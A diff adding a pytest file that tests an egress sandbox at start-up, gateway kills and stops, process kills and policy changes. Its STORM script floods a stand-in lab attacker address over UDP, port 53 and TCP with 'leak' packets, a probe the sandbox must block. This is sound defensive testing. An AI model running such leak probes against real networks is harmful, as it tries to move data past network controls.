@@ -1,0 +1,180 @@
+"""The moments at which enforcement might not be there: starts, kills, changes."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.attacks import processes
+from tests.lab import Lab
+from tests.lab.addresses import v4, v6
+from tests.lab.stockade import Stockade, read_flows
+
+A, X = v4(10), v4(66)
+DRIVER = Path(__file__).with_name("driver.py")
+
+#: Sends to the attacker as often as it can, by every way there is.
+STORM = f"""
+import socket, sys, time
+def send(end):
+    while time.monotonic() < end:
+        for family, address in ((socket.AF_INET, "{X}"), (socket.AF_INET6, "{v6(66)}")):
+            udp = socket.socket(family, socket.SOCK_DGRAM)
+            tcp = socket.socket(family, socket.SOCK_STREAM)
+            tcp.setblocking(False)
+            for step in (lambda: udp.sendto(b"leak", (address, 9999)),
+                         lambda: udp.sendto(b"\\0" * 12, (address, 53)),
+                         lambda: tcp.connect((address, 80))):
+                try: step()
+                except OSError: pass
+            udp.close(); tcp.close()
+print("up", flush=True)
+send(time.monotonic() + float(sys.argv[1]))
+"""
+
+
+@pytest.fixture
+def nothing_left() -> Iterator[None]:
+    """What a test starts is gone soon after it, whatever was killed."""
+    before = processes.devboxes(), processes.control_groups()
+    yield
+    processes.wait_until(lambda: processes.devboxes() <= before[0], "empty run_dir")
+    processes.wait_until(
+        lambda: processes.control_groups() <= before[1], "end of control groups"
+    )
+
+
+def test_nothing_leaves_before_the_policy_is_in_force(
+    lab: Lab, stockade: Stockade
+) -> None:
+    """The first process sends from its first instruction on, at many starts.
+
+    Were the interface up before the policy is acknowledged, a packet would get out.
+    """
+    boots = int(os.environ.get("STOCKADE_TEST_BOOTS", "10"))
+    before = lab.packets()
+    for _ in range(boots):
+        run = stockade.run("-q", "--", "python3", "-c", STORM, "0.05", policy="a.test")
+        assert run.stdout == "up\n"
+        assert {flow["verdict"] for flow in run.flows} == {"deny"}
+    assert lab.packets() == before
+    control = stockade.run("-q", "--", "python3", "-c", STORM, "0.05", policy="all")
+    assert control.saw(address=X)
+
+
+@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGSTOP], ids=str)
+@pytest.mark.usefixtures("nothing_left")
+def test_without_a_gateway_nothing_passes_and_soon_there_is_another(
+    lab: Lab, stockade: Stockade, number: signal.Signals
+) -> None:
+    """The gateway is killed, or stopped, while a devbox uses it and tries to get around it.
+
+    A killed one is replaced; the policy is in force again before anything is served.
+    """
+    script = (
+        f"python3 -c '{STORM}' 4 & "
+        "while :; do curl -sS -m 1 http://a.test/hello && echo; sleep 0.05; done"
+    )
+    flows = lab.directory / f"life-{number}.jsonl"
+    before = lab.packets()
+    process = stockade.popen(
+        "--", "bash", "-c", script, policy="a.test", flows=flows,
+        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
+    )  # fmt: skip
+    try:
+        assert process.stdout is not None
+        first = [process.stdout.readline() for _ in range(2)]
+        assert any("hello" in line for line in first)
+        gateway = processes.gateway_of(process.pid)
+        os.kill(gateway, number)
+        if number is signal.SIGSTOP:
+            mark = lab.mark()
+            time.sleep(1.0)
+            assert not lab.since(mark)
+            os.kill(gateway, signal.SIGCONT)
+        else:
+            processes.wait_until(
+                lambda: processes.gateway_of(process.pid) != gateway, "new gateway"
+            )
+        lab.wait_for(lambda entry: entry.kind == "http", timeout=10, since=lab.mark())
+    finally:
+        process.send_signal(signal.SIGTERM)
+        process.wait(20)
+        process.stdout.close()
+    counted = lab.packets() - before
+    assert not [key for key in counted if key.address in (X, v6(66))]
+    assert {flow["reason"] for flow in read_flows(flows) if flow["address"] == X} <= {
+        "address_not_allowed",
+        "too_many_flows",
+    }
+
+
+@pytest.mark.usefixtures("nothing_left")
+@pytest.mark.parametrize("victim", ["stockade", "devbox", "all"])
+def test_what_is_killed_leaves_nothing(
+    lab: Lab, stockade: Stockade, victim: str
+) -> None:
+    """`kill -9` of the command, of the devbox's first process, of everything at once."""
+    script = f"python3 -c '{STORM}' 30; sleep 30"
+    before = lab.packets()
+    process = stockade.popen(
+        "--", "bash", "-c", script, policy="a.test",
+        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
+    )  # fmt: skip
+    assert process.stdout is not None
+    assert process.stdout.readline() == "up\n"
+    gateway = processes.gateway_of(process.pid)
+    first = processes.init_of(process.pid)
+    family = [number for number, _ in processes.children(process.pid)]
+    doomed = {"stockade": [process.pid], "devbox": [first]}.get(
+        victim, [*family, process.pid]
+    )
+    for pid in doomed:
+        os.kill(pid, signal.SIGKILL)
+    process.wait(20)
+    process.stdout.close()
+    if victim == "devbox":
+        assert process.returncode == 128 + signal.SIGKILL
+    if victim == "all":  # The janitor is dead, too: the next start sweeps.
+        stockade.run("-q", "--", "true")
+    for pid in (gateway, first):
+        processes.wait_until(lambda pid=pid: not processes.is_alive(pid), "end")  # type: ignore[misc]
+    assert processes.mounts() == set()
+    counted = lab.packets() - before
+    assert not [key for key in counted if key.address in (X, v6(66))]
+
+
+@pytest.mark.usefixtures("nothing_left")
+def test_a_tighter_policy_cuts_what_it_no_longer_allows(lab: Lab) -> None:
+    """Connections of every kind are open when a name is taken out of the policy.
+
+    Those to that name are cut and counted; the others go on as if nothing had happened.
+    """
+    lab.set_name("stays.test", a=[v4(60)])
+    lab.set_name("goes.test", a=[v4(61)])
+    done = lab.exec_host([sys.executable, str(DRIVER), "tighten"], timeout=60)
+    assert done.returncode == 0, done.stderr
+    told = json.loads(done.stdout)
+    assert told["generations"] == [1, 2]
+    kinds = {"idle", "up", "down", "websocket", "ssh", "udp"}
+    assert set(told["cut"]) == kinds
+    assert told["acknowledged"] == len(kinds)
+    assert set(told["kept"]) == kinds
+
+
+@pytest.mark.usefixtures("nothing_left")
+def test_a_wider_policy_is_in_force_when_it_is_acknowledged(lab: Lab) -> None:
+    """A name is added, acknowledged, and connected to at once: no race, a hundred times."""
+    done = lab.exec_host([sys.executable, str(DRIVER), "widen"], timeout=60)
+    assert done.returncode == 0, done.stderr
+    told = json.loads(done.stdout)
+    assert told["before"] == "denied"
+    assert told["after"] == ["allowed", "denied"] * 20
